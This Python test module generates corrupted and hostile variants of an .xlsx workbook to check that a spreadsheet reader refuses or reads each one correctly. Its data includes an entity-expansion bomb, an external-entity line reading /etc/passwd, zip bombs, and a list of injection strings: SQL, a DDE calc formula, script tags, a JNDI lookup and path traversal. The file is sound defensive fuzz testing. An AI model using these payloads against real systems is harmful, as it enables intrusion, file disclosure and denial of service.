"""Mutations of an honest .xlsx, each with what a reader may make of it.

A mutation gives bytes and a verdict: the cells that are allowed, or that the file must be refused. Flipped bytes inside
an XML part make another, possibly honest file: for them the truth is a strict reading of the changed part by the rules
of the format (`strict_cells`), written here once more with the XML library of Python and nothing of the reader.
"""

import datetime as dt
import io
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from xml.etree import ElementTree

from hostile_originals import Cells

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SHEET, STRINGS, STYLES, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
TYPES, RELATIONS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)
XXE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
HOSTILE_TEXTS = [
    "'; drop table raw.cells; --",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "${jndi:ldap://x}",
    "北京\u200b市",
    "\u202e市京北",
    "\ufeff天津市",
    "a\u0301",
    "../../etc/passwd",
    "%s%n",
    "[red]x[/]",
    "\U0001f600",
    "N/A",
    "null",
    "1e999",
]
WRONG = {
    "shared string out of range": (b't="s"><v>0</v>', b't="s"><v>9999</v>'),
    "shared string below 0": (b't="s"><v>0</v>', b't="s"><v>-1</v>'),
    "format out of range": (b'<c r="C5"', b'<c r="C5" s="99"'),
    "format is no number": (b'<c r="C5"', b'<c r="C5" s="x"'),
    "other namespace": (b"spreadsheetml/2006/main", b"spreadsheetml/2006/mein"),
    "shared string is no number": (b't="s"><v>0</v>', b't="s"><v>x</v>'),
    "merged ranges overlap": (b'<mergeCell ref="C1:D1"/>', b'<mergeCell ref="C1:D1"/><mergeCell ref="D1:E2"/>'),
    "cell twice": (b'<c r="C5"', b'<c r="C5"><v>77</v></c><c r="C5"'),
    "row twice": (b'<row r="5"', b'<row r="5"><c r="C5"><v>77</v></c></row><row r="5"'),
    "cell in another row": (b'<c r="C5"', b'<c r="C6"'),
    "cell at no address": (b'<c r="C5"', b'<c r="5C"'),
    "cell out of the grid": (b'<c r="D5"', b'<c r="XFE5"'),
    "row out of the grid": (b'<row r="12"', b'<row r="1048577"'),
    "cells far away": (b"</sheetData>", b'<row r="20000"><c r="XFD20000"><v>1</v></c></row></sheetData>'),
    "tags in a comment": (b"<sheetData>", b'<sheetData><!-- <row r="1"><c r="A1"/></row> -->'),
    "CDATA": (b"<v>1397</v>", b"<v><![CDATA[1397]]></v>"),
    "unknown entity": (b"<v>1397</v>", b"<v>&x;1397</v>"),
    "lone surrogate": (b"<v>1397</v>", b"<v>&#xD800;</v>"),
    "zero byte": (b"<v>1397</v>", b"<v>13\x0097</v>"),
    "two values": (b"<v>1397</v>", b"<v>1397</v><v>1398</v>"),
    "sheet in latin-1": (b"UTF-8", b"ISO-8859-1"),
    "entities within entities": (b"<worksheet ", LAUGHS + b"<worksheet "),
    "external entity": (b"<worksheet ", XXE + b"<worksheet "),
}
LOST = {
    "formula without result": (b"<f>B1+1</f>", "#FORMULA"),
    "formula with empty result": (b"<f>B1+1</f><v></v>", "#FORMULA"),
    "formula never worked out": (b"<f>B1+1</f><v>0</v>", "#FORMULA"),
    "array formula": (b'<f t="array" ref="C4"/>', "#FORMULA"),
    "not a number": (b"<v>NaN</v>", "#ERROR"),
    "a number with a letter": (b"<v>13x97</v>", "13x97"),
}


class Malformed(Exception):
    """Not a workbook by the rules: the reader must refuse it (or not have needed what is broken)."""


@dataclass(frozen=True)
class Mutant:
    """kind: what was done; allowed: readings that are right; an empty list: it must be refused."""

    kind: str
    content: bytes
    allowed: list[Cells]
    may_refuse: bool = True


def unzip(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(parts: dict[str, bytes], also: list[tuple[str, bytes]] | None = None) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in [*parts.items(), *(also or [])]:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def mutant(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    """One mutation, the kind and the place drawn by rng."""
    return rng.choices([make for make, _ in KINDS], [weight for _, weight in KINDS])[0](original, truth, rng)


# ---- the container -------------------------------------------------------------------------------------------------


def flip_container(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    data = bytearray(original)
    for _ in range(rng.choice([1, 1, 1, 2, 8])):
        data[rng.randrange(len(data))] ^= rng.randrange(1, 256)
    return Mutant("bytes flipped in the zip", bytes(data), [truth])


def cut(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    a, b = sorted(rng.randrange(len(original)) for _ in range(2))
    how = rng.choice(["cut short", "piece lost", "piece twice", "garbage behind", "garbage before"])
    data = {
        "cut short": original[:a],
        "piece lost": original[:a] + original[b:],
        "piece twice": original[:b] + original[a:],
        "garbage behind": original + rng.randbytes(rng.randrange(1, 5000)),
        "garbage before": original[:4] + rng.randbytes(rng.randrange(1, 500)) + original,
    }[how]
    return Mutant(f"zip: {how}", data or b"PK", [truth])


def lose_part(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    parts = unzip(original)
    name = rng.choice(sorted(parts))
    del parts[name]
    return Mutant(f"part removed: {name}", rezip(parts), [truth])


def two_parts_of_one_name(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    parts = unzip(original)
    name = rng.choice([SHEET, STRINGS, BOOK])
    changed = parts[name].replace(b"1397", b"9999").replace("北京市".encode(), "南京市".encode())
    other = name if rng.random() < 0.5 else name.upper()
    return Mutant("one part twice", rezip(parts, [(other, changed)]), [])


def extra_parts(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    parts = unzip(original)
    how = rng.choice(["macros", "external link", "nested zip", "many parts", "huge part"])
    if how == "macros":
        parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + rng.randbytes(2000)
        parts[TYPES] = parts[TYPES].replace(b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main")
    elif how == "external link":
        parts["xl/externalLinks/externalLink1.xml"] = b'<externalLink xmlns="x"><ddeLink/></externalLink>'
        parts[RELATIONS] = parts[RELATIONS].replace(
            b"</Relationships>",
            b'<Relationship Id="rId77" Type="http://x/externalLink" Target="http://192.0.2.1/x.xlsx" '
            b'TargetMode="External"/></Relationships>',
        )
    elif how == "nested zip":
        parts["xl/embeddings/inner.zip"] = rezip({f"{n}.zip": rezip({"x": b"\0" * 10**6}) for n in range(3)})
    elif how == "many parts":
        return Mutant(how, rezip(parts, [(f"xl/media/{n}", b"") for n in range(10_001)]), [])
    else:
        return Mutant(
            how,
            rezip(parts, [("xl/media/zeros", b"\0" * 520_000_000)])
            if rng.random() < 0.02
            else _lying_size(rezip(parts), rng),
            [],
        )
    return Mutant(how, rezip(parts), [truth], may_refuse=False)


def _lying_size(content: bytes, rng: random.Random) -> bytes:
    """The directory says that a part unpacks to gigabytes."""
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + rng.randrange(600_000_000, 4_000_000_000).to_bytes(4, "little") + content[at + 28 :]


# ---- the XML ---------------------------------------------------------------------------------------------------------


def flip_xml(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    parts = unzip(original)
    name = rng.choice([SHEET, SHEET, SHEET, STRINGS, STRINGS, STYLES, BOOK, RELATIONS])
    data = bytearray(parts[name])
    for _ in range(rng.choice([1, 1, 2, 3])):
        how, at = rng.choice(["flip", "flip", "lose", "twice", "letter"]), rng.randrange(len(data))
        if how == "flip":
            data[at] ^= 1 << rng.randrange(8)
        elif how == "letter":
            data[at] = rng.choice(b'<>/"=&0123456789AZrstcv ')
        elif how == "lose":
            del data[at : at + rng.choice([1, 1, 5, 40])]
        else:
            data[at:at] = data[at : at + rng.choice([1, 5, 40])]
    parts[name] = bytes(data)
    return Mutant(f"XML changed: {name}", rezip(parts), [truth, *strict_readings(parts)])


def wrong_in_sheet(original: bytes, truth: Cells, rng: random.Random, kind: str = "") -> Mutant:
    """Things that a sheet must not hold: refused, never guessed at."""
    parts = unzip(original)
    kind = kind or rng.choice(sorted(WRONG))
    old, new = WRONG[kind]
    if old not in parts[SHEET]:
        raise AssertionError(f"{kind}: {old!r} is not in the sheet")
    parts[SHEET] = parts[SHEET].replace(old, new, 1)
    return Mutant(kind, rezip(parts), [])


def wrong_in_other_part(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    parts = unzip(original)
    name = rng.choice([STRINGS, BOOK, RELATIONS, STYLES])
    how = rng.choice(["entities", "external entity", "UTF-16", "cut", "empty"])
    data = parts[name]
    at = data.index(b"?>") + 2
    parts[name] = {
        "entities": data[:at] + LAUGHS + data[at:].replace(b"</t>", b"&j;</t>", 1),
        "external entity": data[:at] + XXE + data[at:].replace(b"</t>", b"&a;</t>", 1),
        "UTF-16": data.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "cut": data[: len(data) // 2],
        "empty": b"",
    }[how]
    return Mutant(f"{how} in {name}", rezip(parts), [])


def harmless_in_sheet(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    """Things that change no value."""
    parts = unzip(original)
    name = "数据"
    kinds = ["hidden sheet", "absurd dimension", "formula with result", "empty rows", "empty cells", "comment"]
    kind = rng.choice(kinds)
    sheet = parts[SHEET]
    if kind == "hidden sheet":
        state = rng.choice([b"hidden", b"veryHidden"])
        parts[BOOK] = parts[BOOK].replace(b'sheetId="2"', b'sheetId="2" state="%s"' % state)
    elif kind == "absurd dimension":
        ref = rng.choice([b"A1", b"A1:XFD1048576", b"ZZZ99:A1", b"", b"x", b"A0:B-1"])
        sheet = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="%s"' % ref, sheet)
    elif kind == "formula with result":
        sheet = sheet.replace(b"<v>1397</v>", b"<f>[1]Sheet1!A1+1&gt;2</f><v>1397</v>")
    elif kind == "empty rows":
        last = 1_000_000 if rng.random() < 0.02 else 5000
        rows = b"".join(b'<row r="%d"/>' % n for n in range(100, last))
        sheet = sheet.replace(b"</sheetData>", rows + b"</sheetData>")
    elif kind == "empty cells":
        row = b'<row r="%d"><c r="A%d" s="1"/><c r="XFD%d" s="1"/></row>'
        rows = b"".join(row % (n, n, n) for n in range(100, 400))
        sheet = sheet.replace(b"</sheetData>", rows + b"</sheetData>")
    else:
        sheet = sheet.replace(b"<sheetData>", b"<!-- nothing --><sheetData>")
    parts[SHEET] = sheet
    assert (name, 4, 3) in truth
    return Mutant(kind, rezip(parts), [truth], may_refuse=kind == "absurd dimension")


def lost_values(original: bytes, truth: Cells, rng: random.Random, kind: str = "") -> Mutant:
    """A formula without result, an error, a number that is none: seen as such, not as a blank or as 0."""
    parts = unzip(original)
    kind = kind or rng.choice(sorted(LOST))
    new, mark = LOST[kind]
    parts[SHEET] = parts[SHEET].replace(b"<v>1397</v>", new, 1)
    return Mutant(kind, rezip(parts), [{**truth, ("数据", 4, 3): mark}], may_refuse=mark != "#FORMULA")


def hostile_text(original: bytes, truth: Cells, rng: random.Random) -> Mutant:
    """The name of a city, a header or a sheet is an attack: it comes out as it stands."""
    parts = unzip(original)
    text = rng.choice(HOSTILE_TEXTS)
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()
    old = rng.choice(["北京市", "市辖区", "2-1 人口"])
    parts[STRINGS] = parts[STRINGS].replace(b">%s<" % old.encode(), b' xml:space="preserve">%s<' % escaped)
    changed = {at: text if value == old else value for at, value in truth.items()}
    return Mutant("hostile text", rezip(parts), [changed], may_refuse=False)


KINDS: list[tuple[Callable[[bytes, Cells, random.Random], Mutant], int]] = [
    (flip_container, 25),
    (cut, 12),
    (lose_part, 5),
    (two_parts_of_one_name, 3),
    (extra_parts, 6),
    (flip_xml, 40),
    (wrong_in_sheet, 14),
    (wrong_in_other_part, 6),
    (harmless_in_sheet, 6),
    (lost_values, 4),
    (hostile_text, 5),
]


# ---- a strict reading ----------------------------------------------------------------------------------------------


def strict_readings(parts: dict[str, bytes]) -> list[Cells]:
    """What the file says by the rules, or nothing when it breaks them; a day may also stand as its number."""
    try:
        return [strict_cells(parts, dates=True), strict_cells(parts, dates=False)]
    except (Malformed, ElementTree.ParseError, LookupError, ValueError, OverflowError):
        return []


def strict_cells(parts: dict[str, bytes], *, dates: bool) -> Cells:
    targets = {r.get("Id"): r.attrib["Target"] for r in ElementTree.fromstring(parts[RELATIONS])}
    items = ElementTree.fromstring(parts[STRINGS]).iter(f"{NS}si")
    strings = ["".join(t.text or "" for t in item.iter(f"{NS}t")) for item in items]
    styles = ElementTree.fromstring(parts[STYLES])
    formats = [xf.get("numFmtId") for xf in styles.findall(f"{NS}cellXfs/{NS}xf")]
    cells: Cells = {}
    relation = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
    for sheet in ElementTree.fromstring(parts[BOOK]).iter(f"{NS}sheet"):
        tree = ElementTree.fromstring(parts["xl/" + targets[sheet.attrib[relation]]])
        row_no = 0
        for row in tree.findall(f"{NS}sheetData/{NS}row"):
            row_no, col_no = int(row.get("r", row_no + 1)), 0
            for cell in row.findall(f"{NS}c"):
                col_no = _column(cell.get("r"), row_no, col_no)
                text = _strict_text(cell, strings, formats, dates=dates)
                if text.strip():
                    cells[sheet.attrib["name"], row_no, col_no] = text
    return cells


def _column(ref: str | None, row_no: int, before: int) -> int:
    if ref is None:
        return before + 1
    found = re.fullmatch(r"([A-Z]{1,3})(\d+)", ref)
    if found is None or int(found[2]) != row_no:
        raise Malformed(ref)
    number = 0
    for letter in found[1]:
        number = number * 26 + ord(letter) - 64
    return number


def _strict_text(cell: ElementTree.Element, strings: list[str], formats: list[str | None], *, dates: bool) -> str:
    value = cell.findtext(f"{NS}v")
    kind, style = cell.get("t", "n"), formats[int(cell.get("s", "0"))]
    if value is None:
        return ""
    if kind == "s":
        if not 0 <= int(value) < len(strings):
            raise Malformed(value)
        return strings[int(value)]
    if kind == "str":
        return value
    if kind == "b":
        return {"0": "False", "1": "True"}[value]
    if kind == "e":
        return "#ERROR"
    if kind != "n":
        raise Malformed(kind)
    try:
        number = float(value)
    except ValueError:
        return value  # not a number, and seen to be none
    is_day = style is not None and (14 <= int(style) <= 22 or int(style) >= 164)
    if dates and is_day and 0 <= number < 2_958_466:  # up to the year 9999: beyond it stays a number
        day = dt.datetime(1899, 12, 30) + dt.timedelta(days=number)
        return day.date().isoformat() if day.time() == dt.time() else day.isoformat()
    return str(int(number)) if number.is_integer() and abs(number) < 2**53 else repr(number)
